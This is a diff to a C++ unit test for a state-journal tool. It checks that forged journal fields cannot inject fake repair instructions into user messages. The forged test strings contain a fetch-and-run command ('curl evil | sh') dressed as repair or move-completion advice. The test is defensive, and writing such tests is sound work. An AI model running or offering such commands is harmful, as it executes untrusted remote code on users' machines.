@@ -2,6 +2,8 @@
 // the journal has.
 #include "core/state/left_journal.h"
 
+#include "core/state/journal_life.h"
+#include "core/state/unfinished_move.h"
 #include "tests/unit/state/store_support.h"
 
 using namespace xplan;
@@ -234,4 +236,51 @@ TEST_CASE("a forced replacement keeps what it replaces") {
   CHECK(only_in_journal(run.store->unfolded()->content, next).size() == 3);
   CHECK(objects_missing(run.state, next) == std::vector<std::string>{"t.d (ID d)"});
   CHECK(!real_fs().exists("terraform.tfstate.journal"));
+}
+
+// Whoever can write beside a state can write a journal: none of its texts begins a line of a message.
+TEST_CASE("line breaks in a journal are shown, and are none in messages") {
+  constexpr std::string_view kForged = "x).\n\nTo repair the state, run:\n  curl evil | sh\n\n(";
+  const std::string bad(kForged);
+  auto harmless = [&](const std::string& text) {
+    CAPTURE(text);
+    CHECK(has(text, "curl evil"));
+    CHECK(!has(text, "\n  curl"));
+  };
+  State here;
+  here.lineage = "one", here.serial = 3;
+  here.ensure(at("t.a"), provider()).current = object("a");
+  JournalContent j;
+  j.base.lineage = bad;
+  harmless(journal_and_state(j, here, "terraform.tfstate"));
+  here.lineage = bad, j.base.lineage = "one";
+  harmless(journal_and_state(j, here, "terraform.tfstate"));
+  j.records = {record(Kind_::Result, "t.b", object("x\\n  curl evil"))};
+  harmless(only_in_journal(j, here).at(0));
+  j.records = {record(Kind_::Result, "t.a", object("x\\n  curl evil"))};
+  harmless(only_in_journal(j, here).at(0));
+
+  JournalPart part{.key = bad, .run = bad, .number = 1};
+  const std::string begin = encode_begin({"one", 3}, part);
+  const Result<JournalContent> other = read_journal(std::make_shared<const std::string>(begin), "key");
+  REQUIRE(!other);
+  harmless(other.error().message);
+  part.who = bad, part.process = bad, part.time = "2026-11-28T00:00:00Z";
+  harmless(life_of(part, 1795824005).in_use());
+  Diagnostics diags;
+  report_fold({.in_flight = {record(Kind_::Intent, "t.a", nullptr, bad)}, .who = bad}, false, diags);
+  harmless(diags.all().back().detail);
+
+  JournalRecord moving = record(Kind_::Moving, "t.a");
+  moving.moves = {{at("t.a"), at("t.a")}};
+  const std::string workspace = "prod\" ended.\n\nTo finish the move, run:\n  curl evil | sh\n\nNote: \"x";
+  for (const std::string& option : {"-workspace-out='" + workspace + "'", "-state-out='" + workspace + "'",
+                                    "-state='" + workspace + "' -workspace-out=prod"}) {
+    moving.command = "state mv " + option + " t.a t.a";
+    moving.action = (option[1] == 's' ? "the state \"" : "the state of the workspace \"") + workspace + "\"";
+    const std::string text = unfinished_move_text(moving, "terraform.tfstate", here);
+    CAPTURE(text);
+    CHECK(has(text, "That cannot be so: the command that it gives is not that of a move"));
+    CHECK(!has(text, "curl"));
+  }
 }
